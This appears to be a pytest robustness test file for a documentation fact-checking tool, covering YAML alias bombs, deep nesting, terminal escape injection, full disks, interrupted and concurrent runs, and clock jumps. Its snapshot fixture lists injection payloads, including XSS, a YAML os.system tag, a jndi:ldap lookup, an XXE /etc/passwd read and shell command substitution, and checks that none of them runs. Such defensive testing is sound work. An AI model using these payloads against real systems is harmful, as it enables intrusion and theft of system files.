"""Input that was made to fell the check, or to make it act: it is refused, or nothing comes of it.

What one file can hold stands in cases/bad_input.yaml; here is what has to be made, and what happens
around a run: signals, full disks, other writers, clocks.
"""

from __future__ import annotations

import json
import os
import random
import re
import resource
import signal
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path
from textwrap import indent
from typing import Any
from xml.etree import ElementTree

import pytest
from books import FILES, lock, make_book, write
from conftest import SITE

from sphinx_facts.cli import main
from sphinx_facts.reports import FORMATS
from sphinx_facts.text.terminal import visible

CHECK = [sys.executable, "-m", "sphinx_facts"]
MANY = 20_000


@pytest.fixture
def book(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(make_book(tmp_path))
    return tmp_path


def start(*arguments: str, **options: Any) -> subprocess.Popen[str]:
    # On a full disk half of a module's bytecode would be kept, which nobody could load.
    environment = os.environ | {"PYTHONPATH": str(SITE), "PYTHONDONTWRITEBYTECODE": "1"}
    return subprocess.Popen(
        [*CHECK, *arguments], env=environment, text=True,
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, **options,
    )  # fmt: skip


# Nesting and bombs

BOMB = "a: &a [x, x]\n" + "".join(
    f"{new}: &{new} [*{old}, *{old}, *{old}, *{old}, *{old}, *{old}, *{old}, *{old}]\n"
    for old, new in zip("abcdefghijk", "bcdefghijkl", strict=True)
)

COLONS = "[tool.sphinx-facts]\nmyst-extensions = ['colon_fence']\n"


def nested_notes(depth: int) -> str:
    fences = [":" * (depth + 3 - level) for level in range(depth)]
    return "".join(f"{fence}{{note}}\n" for fence in fences) + "x\n" + "\n".join(fences[::-1])


HOSTILE: dict[str, tuple[dict[str, Any], int]] = {
    "aliases of front matter that grow without end": (
        {"docs/x.md": f"---\nsubstitutions:\n{indent(BOMB, '  ')}---\nWords.\n"}, 0,
    ),
    "front matter that holds itself": (
        {"docs/x.md": "---\nsubstitutions: &a\n  b: *a\n---\nWords.\n"}, 0,
    ),
    "front matter that is nested deeply": (
        {"docs/x.md": f"---\ntitle: {'[' * MANY}\n---\nWords.\n"}, 0,
    ),
    "options that are nested deeply": (
        {"docs/x.md": f"```{{note}}\n---\na: {'{' * MANY}\n---\nWords.\n```\n"}, 0,
    ),
    "block quotes in block quotes": ({"docs/x.md": ">" * MANY + " Words.\n\nWords.\n"}, 0),
    "lists in lists": (
        {"docs/x.md": "".join(f"{'  ' * n}- a\n" for n in range(200))}, 0,
    ),
    "brackets in brackets": ({"docs/x.md": "[" * MANY + "\n"}, 0),
    "brackets that close": ({"docs/x.md": "[" * 2000 + "a" + "](b)" * 2000 + "\n"}, 0),
    "footnotes none of which ends": ({"docs/x.md": "[^a" * MANY + "\n"}, 0),
    "emphasis in emphasis": ({"docs/x.md": "*a **a " * 2000 + "\n"}, 0),
    "elements in elements": ({"docs/x.md": "<div>" * MANY + "Words." + "</div>" * MANY + "\n"}, 0),
    "directives in directives": (
        {"docs/x.md": nested_notes(300), "pyproject.toml": COLONS}, 2,
    ),
    "divisions in divisions, none of which ends": (
        {"docs/x.md": ":::ass\nWords.\n" * MANY, "pyproject.toml": COLONS}, 2,
    ),
    "much text in a few directives": (
        {"docs/x.md": nested_notes(8).replace("x", "Words.\n" * MANY), "pyproject.toml": COLONS}, 2,
    ),
    "includes that double": (
        {
            f"docs/{n}.txt": f"```{{include}} {n + 1}.txt\n```\n\n" * 2 for n in range(29)
        } | {"docs/29.txt": "Words.\n", "docs/x.md": "```{include} 0.txt\n```\n"}, 2,
    ),
    "includes in a long row": (
        {
            f"docs/{n}.txt": f"```{{include}} {n + 1}.txt\n```\n" for n in range(500)
        } | {"docs/500.txt": "Words.\n", "docs/x.md": "```{include} 0.txt\n```\n"}, 2,
    ),
    "settings that are nested deeply": ({"pyproject.toml": f"a = {'[' * MANY}\n"}, 2),
    "settings with a number of many digits": ({"pyproject.toml": f"a = {'1' * MANY}\n"}, 2),
    "a lock that is nested deeply": ({"facts/facts.lock": '{"runs": ' * MANY}, 2),
    "facts that are nested deeply": ({"facts/facts.yaml": "[" * MANY}, 2),
    "facts with aliases that grow without end": ({"facts/facts.yaml": BOMB}, 2),
    "facts with a number of many digits": ({"facts/more.yaml": f"facts: {{a: {'1' * MANY}}}\n"}, 2),
}  # fmt: skip


@pytest.mark.parametrize(("files", "code"), HOSTILE.values(), ids=HOSTILE)
def test_what_is_nested_or_repeated_without_end_is_read_or_refused(
    files: dict[str, Any], code: int, book: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    write(book, files)
    started = time.process_time()
    assert main(["check"]) == code
    assert time.process_time() - started < 20  # Such input takes hours where it is not bounded.
    said = capsys.readouterr().out
    assert code == 0 or re.search(r"^\S+:\d+:\d+: X00\d ", said)


@pytest.mark.parametrize("name", ["x.json", "x.toml", "x.yaml", "x.csv"])
def test_a_data_file_that_is_nested_deeply_is_refused(
    name: str, book: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    data = "\nsources:\n  table: {publisher: T, title: null, published: null, url: null, "
    data += f"recorded: data, file: {name}}}\n"
    fact = (
        "  rows:\n    figure: 9 rows\n    claim: c\n    evidence: [{source: table, at: 'a[0]'}]\n"
    )
    text = FILES["facts/facts.yaml"].replace("\npeople:", f"{data[9:]}people:") + fact
    write(
        book, {"facts/facts.yaml": text, f"facts/{name}": "a = " * (name == "x.toml") + "[" * MANY}
    )
    assert main(["check"]) in (1, 2)
    assert f"facts/{name}" in (said := capsys.readouterr().out) or name in said


# Names and texts that a terminal would obey

ESCAPES = "\x1b[J\x07\x9bm\u202e\n::error::x"
NAME = f"a{ESCAPES}.md"


@pytest.mark.parametrize("form", FORMATS)
def test_no_report_has_a_character_that_a_terminal_obeys(
    form: str, book: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    text = ESCAPES.replace("\n", " ")
    fact = FILES["facts/facts.yaml"].replace(
        "figure: over 4,000 cars", 'figure: "over 4,000 \\e[J\\a cars"'
    )
    write(book, {
        f"docs/{NAME}": f"Of 12 {text} “said {text}” {{fact}}`over {text} 9,000 <cars>`.\n",
        "facts/facts.yaml": fact,
    })  # fmt: skip
    assert main(["check", "--format", form]) == 1
    out = capsys.readouterr().out
    assert visible(out, keep="\n") == out
    assert not re.search(r"^::error::x", out, re.M)
    assert "12" in out
    if form == "junit":
        ElementTree.fromstring(out)
    elif form in ("json", "sarif"):
        json.loads(out)


def test_no_diff_has_a_character_that_a_terminal_obeys(
    book: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    text = ESCAPES.replace("\n", " ")
    write(book, {f"docs/{NAME}": f"Each day {{fact}}`4,000 cars <cars>` cross {text}.\n"})
    assert main(["check", "--fix"]) == 1  # for what turns the order of the text
    out = capsys.readouterr().out
    assert "+Each day {fact}`over 4,000 cars <cars>` cross " in out
    assert visible(out, keep="\n") == out


# Snapshots are text

SNAPSHOT = (
    FILES["snapshots/gazette.txt"]
    + """
<script src="http://example.org/x.js"></script> <img src=x onerror=alert(1)>
```{include} /etc/passwd
```
!!python/object/apply:os.system ["true"] {{ 7*7 }} ${jndi:ldap://example.org} `id` $(id)
<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a> __import__("os").system("id")
"""
)
WATCH = """
import sys
seen = []
def hook(event, args):
    if event.split(".")[0] in ("socket", "subprocess", "os", "urllib", "ctypes") and event not in (
        "os.listdir", "os.scandir", "os.chmod", "os.rename", "os.putenv"
    ):
        seen.append(event)
    elif event == "open" and isinstance(args[0], str) and "passwd" in args[0]:
        seen.append(event)
from sphinx_facts.cli import main
sys.addaudithook(hook)
codes = [main(["record", "snapshots"]), main(["check", "--snapshots", "snapshots"])]
print(codes, seen)
"""


def test_nothing_in_a_snapshot_is_run_fetched_or_followed(book: Path) -> None:
    write(book, {"snapshots/gazette.txt": SNAPSHOT})
    environment = os.environ | {"PYTHONPATH": str(SITE)}
    watched = subprocess.run(
        [sys.executable, "-c", WATCH], env=environment, text=True, capture_output=True, check=True
    )
    assert watched.stdout.splitlines()[-1] == "[0, 0] []"


# Full disks


def limit_files() -> None:
    """Let no file grow beyond a few bytes, as on a disk that is full."""
    resource.setrlimit(resource.RLIMIT_FSIZE, (100, 100))


@pytest.mark.parametrize("command", [["record", "snapshots"], ["check", "--fix"]])
def test_a_disk_that_is_full_leaves_the_old_files_alone(command: list[str], book: Path) -> None:
    write(
        book, {"docs/bridge.md": "Each day {fact}`4,000 cars <cars>` cross it.\n" + "Words. " * 40}
    )
    before = tree(book)
    ran = start(*command, preexec_fn=limit_files)
    said, _ = ran.communicate()
    assert ran.returncode == 2
    assert "the file cannot be written: File too large" in said
    assert tree(book) == before


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="the system has no full device")
@pytest.mark.parametrize("arguments", [["check"], ["check", "--format", "json"], ["schema"]])
@pytest.mark.usefixtures("book")
def test_a_report_that_cannot_be_written_is_no_traceback(arguments: list[str]) -> None:
    with Path("/dev/full").open("w") as full:
        environment = os.environ | {"PYTHONPATH": str(SITE)}
        ran = subprocess.run(
            [*CHECK, *arguments], env=environment, stdout=full, stderr=subprocess.PIPE, text=True,
            check=False,
        )  # fmt: skip
    assert ran.returncode == 2
    assert ran.stderr == "the report cannot be written: No space left on device\n"


def tree(folder: Path) -> dict[str, bytes]:
    return {
        str(path.relative_to(folder)): path.read_bytes()
        for path in folder.rglob("*")
        if path.is_file() and ".sphinx-facts" not in str(path) and "__pycache__" not in str(path)
    }


# Interruptions

DRIFTED = (
    "Each day {fact}`4,000 cars <cars>` cross the bridge. {quote}`no-longer` says Ada Quist.\n"
)
MENDED = DRIFTED.replace("`4,000", "`over 4,000")
RUNS = {"record": ["record", "snapshots"], "fix": ["check", "--fix"]}
SIGNALS = [signal.SIGINT, signal.SIGTERM, signal.SIGKILL]

# Forks one run after the other from a process that has loaded everything, and interrupts each at
# a moment that is drawn from how long a whole run takes.
INTERRUPT = """
import os, random, signal, sys, time
from pathlib import Path
from sphinx_facts.cli import main
import sphinx_facts.fixes.fix, sphinx_facts.proof.record
name, times, seed, command = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), sys.argv[4:]
target = Path({"record": "facts/facts.lock", "fix": "docs/bridge.md"}[name])
old, chance = target.read_bytes(), random.Random(seed)
ended, whole, news = [], 0.0, set()
for number in range(times + 1):
    target.write_bytes(old)
    child = os.fork()
    if not child:
        signal.signal(signal.SIGINT, signal.default_int_handler)
        os.dup2(os.open(os.devnull, os.O_WRONLY), 1)
        os.dup2(1, 2)
        os._exit(main(command))
    begun = time.perf_counter()
    kind = signal.Signals(chance.choice([2, 15, 9]))
    if number:
        time.sleep(chance.random() * whole)
        os.kill(child, kind)
    status = os.waitpid(child, 0)[1]
    whole = whole or time.perf_counter() - begun
    if number:
        is_old = target.read_bytes() == old
        strays = list(target.parent.glob(f".{target.name}*"))
        if kind == signal.SIGKILL:  # Nothing can be tidied up then.
            for stray in strays:
                stray.unlink()
            strays = []
        if not is_old:
            news.add(target.read_bytes())
            assert len(news) == 1, (number, kind)
        assert not strays, (number, kind, strays)
        ended.append((is_old, status != 0))
for new in news:
    target.with_name("seen").write_bytes(new)
print(sum(old for old, _ in ended), sum(not old for old, _ in ended), sum(cut for _, cut in ended))
"""


@pytest.mark.parametrize("times", [20, pytest.param(100, marks=pytest.mark.slow)])
@pytest.mark.parametrize("name", RUNS)
def test_an_interrupted_run_leaves_the_old_file_or_the_new_one_whole(
    name: str, times: int, book: Path
) -> None:
    write(book, {"docs/bridge.md": DRIFTED, "facts/facts.lock": FILES["docs/bridge.md"]})
    whole = lock().encode() if name == "record" else MENDED.encode()
    if name == "fix":
        write(book, {"facts/facts.lock": lock()})
    environment = os.environ | {"PYTHONPATH": str(SITE)}
    ran = subprocess.run(
        [sys.executable, "-c", INTERRUPT, name, str(times), "1", *RUNS[name]],
        env=environment, text=True, capture_output=True, check=False,
    )  # fmt: skip
    assert ran.returncode == 0, ran.stderr
    old, new, interrupted = map(int, ran.stdout.split())
    print(f"{name}: {old} times the old file, {new} times the new one, {interrupted} runs cut off")
    assert old + new == times
    assert old > 0
    assert interrupted > 0
    seen = {"record": book / "facts" / "seen", "fix": book / "docs" / "seen"}[name]
    assert not seen.exists() or seen.read_bytes() == whole


# Two at once


def test_two_that_record_at_once_leave_one_whole_lock(book: Path) -> None:
    expected = (book / "facts" / "facts.lock").read_bytes()
    for _ in range(3):
        (book / "facts" / "facts.lock").unlink()
        running = [start("record", "snapshots") for _ in range(2)]
        assert [run.wait() for run in running] == [0, 0]
        for run in running:
            run.communicate()
        assert (book / "facts" / "facts.lock").read_bytes() == expected
    assert sorted(path.name for path in (book / "facts").iterdir()) == ["facts.lock", "facts.yaml"]


def test_two_that_fix_at_once_mend_once(book: Path) -> None:
    write(book, {"docs/bridge.md": DRIFTED})
    running = [start("check", "--fix") for _ in range(2)]
    for run in running:
        run.communicate()
    assert (book / "docs" / "bridge.md").read_text("utf-8") == MENDED
    assert [path.name for path in (book / "docs").iterdir()] == ["bridge.md"]


def test_what_an_author_saves_while_a_chapter_is_mended_is_not_lost(
    book: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    import sphinx_facts.fixes.fix as module  # noqa: PLC0415

    def saved_meanwhile(*arguments: Any) -> str:
        mended = fix_chapter(*arguments)
        write(book, {"docs/bridge.md": "Saved meanwhile.\n"})
        return mended

    fix_chapter: Callable[..., str] = module.fix_chapter
    monkeypatch.setattr(module, "fix_chapter", saved_meanwhile)
    write(book, {"docs/bridge.md": DRIFTED})
    assert main(["check", "--fix"]) == 2
    assert (book / "docs" / "bridge.md").read_text("utf-8") == "Saved meanwhile.\n"
    assert "the file has changed meanwhile" in capsys.readouterr().out


# Clocks


@pytest.mark.usefixtures("book")
def test_a_clock_that_jumps_changes_nothing(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["check"]) == main(["record", "snapshots"]) == 0
    expected = capsys.readouterr().out, Path("facts/facts.lock").read_bytes()
    chance = random.Random(1)
    for clock in ("time", "monotonic", "perf_counter"):
        monkeypatch.setattr(time, clock, lambda: chance.uniform(-1e9, 4e9))
    for path in Path().rglob("*"):
        os.utime(path, (4e9, 4e9))
    assert main(["check"]) == main(["record", "snapshots"]) == 0
    assert (capsys.readouterr().out, Path("facts/facts.lock").read_bytes()) == expected
